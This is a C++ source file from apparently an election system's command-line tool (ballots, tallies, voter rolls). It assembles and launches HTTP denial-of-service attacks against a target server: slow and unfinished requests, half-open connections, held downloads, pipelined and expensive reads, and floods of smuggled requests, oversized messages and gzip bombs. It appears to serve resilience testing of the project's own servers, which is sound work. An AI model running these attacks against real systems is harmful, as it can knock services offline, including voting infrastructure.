#include "cli/http_attacks.h"

#include <fmt/format.h>
#include <google/protobuf/util/json_util.h>

#include <chrono>
#include <string>
#include <string_view>
#include <thread>
#include <utility>

#include "absl/strings/escaping.h"
#include "cli/hostile_requests.h"
#include "cli/pipelined_reads.h"
#include "cli/vandal_connections.h"
#include "urna/v1/eligibility_service.pb.h"
#include "urna/v1/ledger_service.pb.h"
#include "urna/v1/tallies_service.pb.h"

namespace urna::cli {
namespace {

using Clock = std::chrono::steady_clock;
using Counts = Attack::Counts;

constexpr std::chrono::seconds kStay(10);
constexpr int kLargestPage = 2000;
constexpr int kAskers = 8;
// Of one answer the system may take in the whole; of so many it does not.
constexpr int kAskedAtOnce = 50;
constexpr std::uint64_t kLargestMessage = std::uint64_t{4} << 20;
constexpr std::uint64_t kBallotMessage = 1000;

std::string Repeated(const std::string& text, int times) {
  std::string out;
  for (int i = 0; i < times; ++i) out += text;
  return out;
}

std::string Base64(const google::protobuf::Message& message) {
  return absl::WebSafeBase64Escape(message.SerializeAsString());
}

// In JSON, which costs the server more than bytes.
std::string GetOf(std::string_view method, const google::protobuf::Message& request) {
  std::string json;
  // It fails for no message of the API.
  static_cast<void>(google::protobuf::util::MessageToJsonString(request, &json));
  return GetRequest(fmt::format("/urna.v1.{}?encoding=json&base64=1&message={}", method,
                                absl::WebSafeBase64Escape(json)));
}

std::string UnfinishedBody(std::uint64_t announced, std::uint64_t sent) {
  return PostHead("/urna.v1.Ballots/CastBallot", "application/proto",
                  fmt::format("content-length: {}\r\n", announced)) +
         std::string(sent, '\0');
}

// Half of them files, half streams.
std::vector<std::string> Downloads(const Target& target) {
  v1::ReadRollRequest roll;
  roll.set_electorate(target.electorate);
  const std::string stream =
      PostRequest("/urna.v1.Eligibility/ReadRoll", "application/connect+proto",
                  InEnvelope(roll.SerializeAsString()));
  const std::string id = target.process.substr(target.process.find('/') + 1);
  const std::string file = GetRequest(fmt::format("/bundle/{}/tile/entries/000", id));
  return {Repeated(stream, kAskedAtOnce), Repeated(file, kAskedAtOnce)};
}

// With the header in the address, and none of the file; as a stream whose header is announced and does not come.
std::vector<std::string> Uploads(const Target& target) {
  const std::string file = PostHead(
      fmt::format("/urna.v1.Trustees/SubmitArtefact?encoding=proto&base64=1&header={}",
                  Base64(target.header)),
      "application/octet-stream", fmt::format("content-length: {}\r\n", target.header.size()));
  const std::string stream =
      PostHead("/urna.v1.Trustees/SubmitArtefact", "application/connect+proto",
               fmt::format("content-length: {}\r\n", target.header.size()));
  const std::string header = InEnvelope(target.header.SerializeAsString());
  return {file, stream + header.substr(0, header.size() / 2)};
}

// One of several threads', which send them in turns and so many a second together: each waits for its answer.
void AskPerSecond(const std::string& address, const std::vector<LoneRequest>& requests,
                  int per_second, Counts& counts) {
  const sockaddr_storage to = AddressOf(address);
  const auto pause =
      std::chrono::duration_cast<Clock::duration>(std::chrono::seconds(kAskers)) / per_second;
  while (!counts.Sleep(pause)) {
    const LoneAnswer answer = Ask(to, requests[counts.attempts++ % requests.size()], counts);
    if (answer.answers > 1 || (answer.status >= 200 && answer.status < 300)) {
      ++counts.succeeded;
    } else {
      ++counts.rebuffed;
    }
  }
}

void ReadMuch(const Target& target, Counts& counts) {
  const sockaddr_storage to = AddressOf(target.http_address);
  v1::GetTallyRequest tally;
  tally.set_contest(target.contest);
  v1::ListEntriesRequest entries;
  entries.set_process(target.process);
  entries.set_page_size(kLargestPage);
  const std::vector<LoneRequest> reads = {{LastRequest(GetOf("Tallies/GetTally", tally)), ""},
                                          {LastRequest(GetOf("Ledger/ListEntries", entries)), ""}};
  while (!counts.ending) {
    if (Ask(to, reads[counts.attempts++ % reads.size()], counts).status != 200) ++counts.rebuffed;
  }
}

}  // namespace

std::vector<std::unique_ptr<Attack>> StartHttpAttacks(const Target& target,
                                                      const HttpAttackSizes& sizes) {
  std::vector<std::unique_ptr<Attack>> attacks;
  const auto start = [&attacks](const char* name, int threads, const Attack::Work& work) {
    if (threads > 0) attacks.push_back(std::make_unique<Attack>(name, threads, work));
  };
  const auto hold = [&](const char* name, int count, HeldConnections held) {
    held.count = static_cast<std::size_t>(count);
    start(name, count > 0 ? 1 : 0, [address = target.http_address, held](Counts& counts) {
      HoldConnections(address, held, counts);
    });
  };
  const auto ask = [&](const char* name, int per_second, std::vector<LoneRequest> requests) {
    start(name, per_second > 0 ? kAskers : 0,
          [address = target.http_address, requests, per_second](Counts& counts) {
            AskPerSecond(address, requests, per_second, counts);
          });
  };
  hold("slow heads over HTTP", sizes.slow_heads,
       {.first = {GetRequest("/healthz"), PostHead("/urna.v1.Ballots/CastBallot",
                                                   "application/proto", "content-length: 0\r\n")},
        .trickles = true});
  hold("unfinished bodies over HTTP", sizes.unfinished_bodies,
       {.first = {UnfinishedBody(kBallotMessage, kBallotMessage / 2),
                  UnfinishedBody(kLargestMessage, kLargestMessage - 1)}});
  hold("half-open connections over HTTP", sizes.half_open_connections,
       {.first = {"", std::string(kTlsHello)}, .trickles = true});
  hold("unread downloads over HTTP", sizes.unread_downloads,
       {.first = Downloads(target), .reads = false, .stay = kStay});
  hold("upload headers over HTTP", sizes.header_uploads, {.first = Uploads(target), .stay = kStay});
  start("pipelined reads over HTTP", sizes.pipelines > 0 ? 1 : 0, [=](Counts& counts) {
    v1::GetCheckpointRequest request;
    request.set_process(target.process);
    PipelineReads(target.http_address, GetOf("Ledger/GetCheckpoint", request), sizes.pipelines,
                  counts);
  });
  start("expensive reads over HTTP", sizes.expensive_reads,
        [target](Counts& counts) { ReadMuch(target, counts); });
  ask("smuggled requests over HTTP", sizes.smuggled_requests_per_second, SmuggledRequests());
  ask("oversized heads over HTTP", sizes.oversized_heads_per_second, OversizedHeads());
  ask("oversized bodies over HTTP", sizes.oversized_bodies_per_second, OversizedBodies());
  ask("gzip bombs over HTTP", sizes.bombs_per_second, Bombs());
  return attacks;
}

}  // namespace urna::cli
